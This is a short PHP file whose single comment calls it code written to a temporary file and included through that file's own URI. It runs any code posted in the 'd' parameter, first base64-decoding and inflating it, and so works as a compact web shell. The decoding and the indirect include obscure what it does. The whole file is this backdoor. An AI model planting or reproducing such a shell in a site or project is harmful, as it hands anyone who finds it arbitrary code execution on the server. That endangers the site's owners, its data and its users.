<?php
// Code written to an anonymous temporary file and included through the file's own uri.
$h = tmpfile();
fwrite($h, '<' . '?php ' . gzinflate(base64_decode($_POST['d'] ?? '')));
$u = stream_get_meta_data($h);
include $u['uri'];
fclose($h);
